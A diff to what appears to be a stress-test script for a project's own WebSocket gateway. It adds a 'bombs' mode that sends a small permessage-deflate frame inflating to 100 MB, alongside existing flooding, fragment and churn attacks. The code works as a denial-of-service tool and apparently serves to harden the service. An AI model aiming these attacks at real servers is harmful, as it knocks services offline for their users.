@@ -14,6 +14,7 @@ Attacks:
 * ``fragments``: WebSocket connections that send a message as endless one-byte fragments;
 * ``channels``: connections that subscribe to and unsubscribe from fresh channel names, over
   and over;
+* ``bombs``: connections that send a small compressed frame inflating to 100 MB;
 * ``churn``: connections that open, subscribe to fresh channel names and leave, over and over;
 * ``publish``: a publisher flooding a channel through Redis (``--deep``: with envelopes
   nested too deeply to decode), with subscribers of it on the gateway;
@@ -73,10 +74,12 @@ def close_code(data: bytes) -> int | None:
     return None
 
 
-async def open_websocket(url: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+async def open_websocket(
+    url: str, extra: bytes = b""
+) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
     """A raw upgraded connection, or None if the gateway refused it."""
     reader, writer = await asyncio.open_connection(*address(url))
-    writer.write(upgrade_request(url))
+    writer.write(upgrade_request(url, extra))
     head = await reader.readuntil(b"\r\n\r\n")
     if not head.startswith(b"HTTP/1.1 101"):
         writer.close()
@@ -191,6 +194,36 @@ async def pings(args: argparse.Namespace, counts: Counts, stop: asyncio.Event) -
 async def fragments(args: argparse.Namespace, counts: Counts, stop: asyncio.Event) -> None:
     first = masked(Opcode.TEXT, b"[", fin=False)
     await flood(args, counts, stop, masked(Opcode.CONT, b" ", fin=False) * 1000, first)
+
+
+async def bombs(args: argparse.Namespace, counts: Counts, stop: asyncio.Event) -> None:
+    """Connections that negotiate permessage-deflate and send one small frame that inflates
+    to ``--inflated`` bytes of zeros."""
+    import zlib
+
+    compressor = zlib.compressobj(wbits=-zlib.MAX_WBITS)
+    data = compressor.compress(b"\0" * args.inflated) + compressor.flush(zlib.Z_SYNC_FLUSH)
+    frame = masked(Opcode.TEXT, data[:-4])  # compressed: without the final 00 00 ff ff
+    bomb = bytes([frame[0] | 0x40]) + frame[1:]  # RSV1: the frame is compressed
+    counts["bomb_bytes"] = len(bomb)
+    offer = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
+
+    async def one() -> None:
+        opened = await open_websocket(args.url, offer)
+        if opened is None:
+            counts["refused"] += 1
+            await asyncio.sleep(0.1)
+            return
+        reader, writer = opened
+        counts["opened"] += 1
+        writer.write(bomb)
+        received = b""
+        while data := await reader.read(65536):
+            received += data
+        counts[f"close:{close_code(received)}"] += 1
+        writer.close()
+
+    await asyncio.gather(*(forever(counts, stop, one) for _ in range(args.clients)))
 
 
 async def churn(args: argparse.Namespace, counts: Counts, stop: asyncio.Event) -> None:
@@ -359,6 +392,7 @@ async def publish(args: argparse.Namespace, counts: Counts, stop: asyncio.Event)
 
 
 ATTACKS = {
+    "bombs": bombs,
     "headers": headers,
     "silent": silent,
     "pings": pings,
@@ -379,9 +413,11 @@ async def main_async(args: argparse.Namespace) -> None:
     started = time.monotonic()
     attack = asyncio.create_task(ATTACKS[args.attack](args, counts, stop))
     print("started", flush=True)
-    await stop.wait()
+    await asyncio.wait([attack, asyncio.create_task(stop.wait())], return_when="FIRST_COMPLETED")
     attack.cancel()
-    await asyncio.gather(attack, return_exceptions=True)
+    [outcome] = await asyncio.gather(attack, return_exceptions=True)
+    if isinstance(outcome, Exception):  # the attack itself broke: say so, do not hide it
+        counts[f"failed:{type(outcome).__name__}: {outcome}"] += 1
     print(json.dumps({"seconds": round(time.monotonic() - started, 2), **counts}), flush=True)
 
 
@@ -396,6 +432,7 @@ def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
     parser.add_argument("--interval", type=float, default=0.05, help="headers: between lines")
     parser.add_argument("--clients", type=int, default=10, help="pings, fragments, churn, resume")
     parser.add_argument("--per-connection", type=int, default=20, help="churn")
+    parser.add_argument("--inflated", type=int, default=100 << 20, help="bombs: bytes inflated")
     parser.add_argument("--channel", default="h.storm", help="resume, publish")
     parser.add_argument("--redis", help="publish: the Redis URL to publish through")
     parser.add_argument("--size", type=int, default=100, help="publish: bytes of padding")
